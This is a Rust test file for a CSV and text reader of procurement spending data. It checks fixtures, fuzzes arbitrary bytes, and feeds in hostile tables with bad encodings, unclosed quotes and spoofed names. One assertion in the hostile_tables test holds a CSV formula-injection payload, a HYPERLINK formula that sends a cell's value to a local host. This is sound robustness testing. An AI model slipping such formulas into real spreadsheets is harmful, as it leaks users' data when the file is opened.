//! Tables and text, through the public interface: own fixtures always, the shared corpora where they are.

#![allow(
    clippy::unwrap_used,
    clippy::print_stderr,
    reason = "helpers of tests are tests"
)]

mod reading;

use std::fmt::Write as _;
use std::path::Path;

use proptest::prelude::*;
use reading::{Reading, count, files, fixtures, read, shared};
use stripout_model::Code;
use stripout_read::{Options, Source, reread_all};

/// What a reading came to, for comparing with a fixture's `.expected`.
fn shown(reading: &Reading) -> String {
    let mut text = format!("format {} {:?}\n", reading.format, reading.kind);
    for row in &reading.records {
        writeln!(
            text,
            "row {} line {} byte {}: {}",
            row.place.number, row.place.line, row.place.byte, row.whole
        )
        .unwrap();
        let kind = if Some(row.kind) == reading.kind {
            String::new()
        } else {
            format!("{:?}: ", row.kind)
        };
        let roles: Vec<String> = row
            .passages
            .iter()
            .map(|p| format!("{}={:?} {:?}", p.name, p.role, p.text))
            .collect();
        writeln!(text, "  {kind}{}", roles.join(", ")).unwrap();
        if let Some(p) = &row.facts.payment {
            let said = [&p.body, &p.supplier, &p.purpose, &p.category, &p.reference];
            let said: Vec<&str> = said.into_iter().map(|s| s.as_deref().unwrap_or("-")).collect();
            let amount = p.amount.map_or("-".into(), |m| m.to_string());
            let date = p.date.map_or("-".into(), |d| d.to_string());
            writeln!(text, "  payment {amount} on {date}: {}", said.join(" | ")).unwrap();
        }
        for c in &row.facts.contracts {
            writeln!(text, "  contract {}", serde_json::to_string(c).unwrap()).unwrap();
        }
    }
    for problem in &reading.problems {
        writeln!(
            text,
            "{:?} {} [{}] {}",
            problem.severity, problem.code, problem.place, problem.what
        )
        .unwrap();
    }
    text
}

/// Drop `x.csv` into the folder: this writes `x.csv.expected` when `UPDATE_EXPECTED` is set, else compares.
fn check_folder(folder: &str) {
    let mut checked = 0;
    for path in files(&fixtures(folder)) {
        let name = path.file_name().unwrap().to_str().unwrap().to_owned();
        if name.ends_with(".expected") || name == "headers.tsv" || name == "README.md" {
            continue;
        }
        let bytes = std::fs::read(&path).unwrap();
        let reading = read(&name, &bytes, &Options::default());
        let found = shown(&reading);
        let expected = path.with_file_name(format!("{name}.expected"));
        if std::env::var_os("UPDATE_EXPECTED").is_some() {
            std::fs::write(&expected, &found).unwrap();
        }
        let wanted = std::fs::read_to_string(&expected).unwrap_or_default();
        assert_eq!(found, wanted, "{name}");
        assert_reread(&name, &bytes, &reading);
        checked += 1;
    }
    assert!(checked >= 5, "{folder}: {checked} fixtures");
}

/// Every passage is found again in the source by its locator alone.
fn assert_reread(name: &str, bytes: &[u8], reading: &Reading) {
    let passages: Vec<_> = reading.records.iter().flat_map(|row| &row.passages).collect();
    let locators: Vec<_> = passages.iter().map(|p| &p.locator).collect();
    let again = reread_all(
        Source {
            name,
            bytes: &mut std::io::Cursor::new(bytes),
        },
        &Options::default(),
        &locators,
    );
    for (passage, again) in passages.iter().zip(again) {
        assert_eq!(
            again.as_deref(),
            Ok(passage.text.as_str()),
            "{name}: {}",
            passage.locator
        );
    }
}

#[test]
fn csv_fixtures() {
    check_folder("csv");
}

#[test]
fn text_fixtures() {
    check_folder("text");
}

#[test]
fn csv_spectrum() {
    let Some(folder) = shared("data/hostile/csv/csv-spectrum") else {
        return;
    };
    let mut checked = 0;
    for path in files(&folder.join("csvs")) {
        let name = path.file_name().unwrap().to_str().unwrap();
        let bytes = std::fs::read(&path).unwrap();
        let reading = read(name, &bytes, &Options::default());
        let json = std::fs::read(folder.join("json").join(name.replace(".csv", ".json"))).unwrap();
        let json = String::from_utf8_lossy(&json);
        // The corpus as it is handed out has lost the CR of this one.
        let json = if bytes.contains(&b'\r') {
            json.into_owned()
        } else {
            json.replace("\\r\\n", "\\n")
        };
        let wanted: serde_json::Value = serde_json::from_str(&json).unwrap();
        let wanted = if wanted.is_array() {
            wanted
        } else {
            serde_json::Value::Array(vec![wanted])
        };
        let found: Vec<serde_json::Value> = reading
            .records
            .iter()
            .map(|row| serde_json::from_str(&row.whole).unwrap())
            .collect();
        if name == "location_coordinates.csv" {
            // Its csv and json are in an old code page; the degree signs differ by what one takes it for.
            assert_eq!(found.len(), 1);
            assert_eq!(found[0]["Cities"], wanted[0]["Cities"]);
        } else {
            assert_eq!(serde_json::Value::Array(found), wanted, "{name}");
        }
        checked += 1;
    }
    assert_eq!(checked, 12);
}

#[test]
fn hostile_tables() {
    let Some(folder) = shared("data/hostile/made/csv") else {
        return;
    };
    let reading = |name: &str, options: &Options| {
        let bytes = std::fs::read(folder.join(name)).unwrap();
        let reading = read(name, &bytes, options);
        assert_reread(name, &bytes, &reading);
        reading
    };
    let plain = |name: &str| reading(name, &Options::default());
    let holds = |reading: &Reading, text: &str| {
        reading
            .records
            .iter()
            .flat_map(|r| &r.passages)
            .any(|p| p.text.contains(text))
    };
    let says = |reading: &Reading, code: Code, place: &str, what: &str| {
        let found = reading
            .problems
            .iter()
            .any(|p| p.code == code && p.place.contains(place) && p.what.contains(what));
        assert!(found, "{code} {place} {what}: {:#?}", reading.problems);
    };

    let r = plain("formula-injection.csv");
    assert!(holds(&r, "=HYPERLINK(\"http://127.0.0.1/?leak=\"&A1,\"x\")"));
    assert_eq!(
        r.records[0]
            .facts
            .payment
            .as_ref()
            .unwrap()
            .amount
            .unwrap()
            .minor_units,
        10_000
    );

    for (name, code, place) in [
        ("nul-bytes.csv", Code::InputEncoding, "line 2"),
        ("lone-surrogate-utf8.csv", Code::InputEncoding, "line 2"),
        ("overlong-utf8.csv", Code::InputEncoding, "line 2"),
        ("mixed-encodings.csv", Code::InputEncoding, "line 3"),
    ] {
        let r = plain(name);
        says(&r, code, place, "U+FFFD");
        assert!(holds(&r, "\u{fffd}") && !holds(&r, "../"), "{name}");
    }
    assert!(holds(&plain("mixed-encodings.csv"), "caf\u{e9}"));

    let r = plain("ragged.csv");
    assert_eq!(r.records.len(), 4);
    says(&r, Code::InputRagged, "line 3", "fewer cells");
    says(&r, Code::InputRagged, "line 4", "more cells");
    says(&r, Code::InputRagged, "line 5", "quote");

    assert!(holds(
        &plain("utf16le-bom.csv"),
        "\u{6d77}\u{5eb7}\u{5a01}\u{89c6}"
    ));
    let r = plain("gb18030-no-bom.csv");
    assert!(holds(&r, "\u{6d77}\u{5eb7}\u{5a01}\u{89c6}"));
    says(&r, Code::InputEncoding, "", "GB");
    let r = plain("windows-1252-smart.csv");
    assert!(holds(&r, "\u{201c}Hikvision\u{201d} \u{2013} UK") && holds(&r, "\u{a3}1"));
    says(&r, Code::InputEncoding, "", "windows-1252");
    let r = plain("cr-only.csv");
    assert_eq!(r.records.iter().map(|r| r.place.line).collect::<Vec<_>>(), [2, 3]);

    assert!(!plain("10000-columns.csv").records.is_empty());
    let mut narrow = Options::default();
    narrow.limits.columns = 9_999;
    says(
        &reading("10000-columns.csv", &narrow),
        Code::InputTooLarge,
        "line 2",
        "9999",
    );

    let r = plain("amounts-odd.csv");
    let amounts: Vec<_> = r
        .records
        .iter()
        .map(|r| {
            r.facts
                .payment
                .as_ref()
                .and_then(|p| p.amount)
                .map(|m| m.minor_units)
        })
        .collect();
    assert_eq!(
        amounts,
        [None, Some(0), None, None, Some(-10_000), None, None, None]
    );
    says(&r, Code::InputNumber, "lines 2, 4, 5, 7, 8 and 1 more", "6 cells");

    let r = plain("bidi-spoof.csv");
    assert!(holds(&r, "\u{202e}") && holds(&r, "Hik\u{200b}vision") && holds(&r, "\u{41d}ikvision"));
}

#[test]
fn contract_01_eight_megabytes_without_a_closing_quote() {
    let mut bytes = b"Body,Supplier\n\"".to_vec();
    bytes.extend(std::iter::repeat_n(b'x', 8 << 20));
    let reading = read("long.csv", &bytes, &Options::default());
    assert!(reading.records.is_empty());
    let named = |code, line: &str| {
        reading
            .problems
            .iter()
            .any(|p| p.code == code && p.place.contains(line))
    };
    assert!(
        named(Code::InputRagged, "line 2") && named(Code::InputTooLarge, "line 2"),
        "{:#?}",
        reading.problems
    );
}

#[test]
fn contract_01_a_row_without_end_is_passed_over() {
    let mut bytes = b"Supplier,Amount\nA Ltd,1\n".to_vec();
    bytes.extend(std::iter::repeat_n(b'x', 13 << 20));
    bytes.extend_from_slice(b"\nB Ltd,2\n");
    let reading = read("long.csv", &bytes, &Options::default());
    let lines: Vec<u64> = reading.records.iter().map(|r| r.place.line).collect();
    assert_eq!(lines, [2, 4]);
    assert!(
        reading
            .problems
            .iter()
            .any(|p| p.code == Code::InputTooLarge && p.place == "line 3")
    );
}

#[test]
fn contract_04_an_open_quote_does_not_swallow_the_table() {
    let mut text = String::from("Body,Supplier,Date,Amount\n");
    for row in 0..10_000 {
        // The next quote that could close it comes thousands of rows later.
        let supplier = match row {
            2_000 => "\"Acme Ltd",
            9_000 => "\"Acme, Ltd\"",
            _ => "Acme Ltd",
        };
        writeln!(text, "Testshire,{supplier},2020-01-02,{}.50", row % 1000).unwrap();
    }
    let reading = read("open.csv", text.as_bytes(), &Options::default());
    assert_eq!(reading.records.len(), 10_000);
    let quote: Vec<_> = reading
        .problems
        .iter()
        .filter(|p| p.what.contains("quote"))
        .collect();
    assert!(
        matches!(quote.as_slice(), [p] if p.place == "line 2002"),
        "{quote:#?}"
    );
    assert_reread("open.csv", text.as_bytes(), &reading);
}

/// Quadratic behaviour would take hours here.
#[test]
fn contract_01_open_quotes_take_linear_time() {
    for pattern in ["\"x\n", "a,\"b,\"c", "\"x,y\n", " \"", "\"a\n\",", "\"\"\"\n,"] {
        let text = format!(
            "Supplier,Amount\nA,1\nB,2\nC,3\n{}",
            pattern.repeat((2 << 20) / pattern.len())
        );
        let start = std::time::Instant::now();
        let (rows, problems) = count("quotes.csv", text.as_bytes(), &Options::default());
        eprintln!("{pattern:?} took {:?}", start.elapsed());
        assert!(
            rows + problems > 0 && start.elapsed().as_secs() < 60,
            "{pattern:?} took {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn real_bad_tables_never_panic() {
    for folder in [
        "data/hostile/csv",
        "data/hostile/made",
        "data/hostile/strings",
        "data/hostile/xlsx",
    ] {
        let Some(folder) = shared(folder) else { return };
        for path in files(&folder) {
            let bytes = std::fs::read(&path).unwrap();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            let reading = read(&name, &bytes, &Options::default());
            assert!(
                !reading.records.is_empty() || !reading.problems.is_empty() || bytes.len() < 64,
                "{name}: silence"
            );
        }
    }
}

fn bytes_of_tables() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        Just(b",".to_vec()),
        Just(b"\"".to_vec()),
        Just(b"\n".to_vec()),
        Just(b"\r\n".to_vec()),
        Just(b"\r".to_vec()),
        Just(b" ".to_vec()),
        Just(b"\0".to_vec()),
        Just(b"\xa3".to_vec()),
        Just("\u{a3}".as_bytes().to_vec()),
        Just(b"Supplier,Amount,Date\n".to_vec()),
        Just(b"A Ltd,\"1,234.00\",03/04/2020\n".to_vec()),
        "[a-z0-9./-]{1,8}".prop_map(String::into_bytes),
        proptest::collection::vec(any::<u8>(), 0..6),
    ];
    proptest::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_bytes_panic_and_every_passage_is_found_again(bytes in bytes_of_tables(), utf16 in any::<bool>()) {
        let bytes = if utf16 {
            let text = String::from_utf8_lossy(&bytes).into_owned();
            [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
        } else {
            bytes
        };
        for name in ["x.csv", "x.txt"] {
            let reading = read(name, &bytes, &Options::default());
            if matches!(reading.format, "csv" | "text") {
                assert_reread(name, &bytes, &reading);
            }
        }
    }
}

#[test]
fn every_spend_file_is_opened() {
    let Some(folder) = shared("data/procurement") else {
        return;
    };
    let mut report = String::new();
    for path in files(&folder)
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "csv"))
    {
        let bytes = std::fs::read(&path).unwrap();
        let reading = read(&path.to_string_lossy(), &bytes, &Options::default());
        assert_eq!(reading.format, "csv", "{}", path.display());
        assert!(!reading.records.is_empty(), "{}", path.display());
        let payments: Vec<_> = reading
            .records
            .iter()
            .filter_map(|r| r.facts.payment.as_ref())
            .collect();
        let pence: i64 = payments
            .iter()
            .filter_map(|p| p.amount)
            .map(|m| m.minor_units)
            .sum();
        let dated = payments.iter().filter(|p| p.date.is_some()).count();
        let name = path.strip_prefix(&folder).unwrap_or(Path::new(""));
        writeln!(
            report,
            "{}\t{:?}\t{}\t{}\t{dated}\t{pence}\t{}",
            name.display(),
            reading.kind.unwrap(),
            reading.records.len(),
            payments.len(),
            reading
                .problems
                .iter()
                .map(|p| format!("{} [{}] {}", p.code, p.place, p.what))
                .collect::<Vec<_>>()
                .join("; ")
        )
        .unwrap();
    }
    eprint!("{report}");
}
